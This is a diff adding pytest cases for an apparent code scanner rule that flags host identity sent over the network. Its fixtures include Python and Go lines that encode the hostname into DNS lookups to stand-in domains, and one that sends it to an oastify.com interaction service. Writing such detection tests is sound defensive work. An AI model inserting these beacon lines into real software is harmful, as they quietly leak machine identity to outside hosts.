@@ -52,6 +52,30 @@ def test_login_name_in_a_dns_name_is_high_own_address_lookup_is_low():
     assert _by_line("host-identity-sent-over-network", "m.py", text) == {2: "high", 3: "low"}
 
 
+def test_host_name_encoded_into_a_dns_name_is_high_its_own_lookup_is_not():
+    py = ("import socket, binascii, base64\n"
+          "h = binascii.hexlify(socket.gethostname().encode()).decode()\n"
+          "socket.gethostbyname(h + '.c0ffee.zone-for-data.example')\n"
+          "socket.getaddrinfo(base64.b32encode(socket.gethostname().encode()).decode().strip('=') + '.d.example', 53)\n"
+          "socket.gethostbyname(socket.gethostname())\n")
+    assert _by_line("host-identity-sent-over-network", "m.py", py) == {3: "high", 4: "high", 5: "low"}
+    go = ("package m\n"
+          "import (\"encoding/hex\"; \"net\"; \"os\")\n"
+          "func init() {\n"
+          "\th, _ := os.Hostname()\n"
+          "\tnet.LookupHost(hex.EncodeToString([]byte(h)) + \".d.example\")\n"
+          "\tnet.LookupHost(h)\n"
+          "}\n")
+    assert _by_line("host-identity-sent-over-network", "m.go", go) == {5: "high", 6: "medium"}
+
+
+def test_host_name_sent_to_an_interaction_service_is_critical():
+    text = ("import socket, urllib.request\n"
+            "urllib.request.urlopen('https://q1w2e3.oastify.com/?h=' + socket.gethostname())\n"
+            "urllib.request.urlopen('https://status.example.com/?h=' + socket.gethostname())\n")
+    assert _by_line("host-identity-sent-over-network", "m.py", text) == {2: "critical", 3: "medium"}
+
+
 def test_os_system_of_a_command_built_only_from_constants_is_low():
     text = ("import os\n"
             "TOOL = 'gzip'\n"
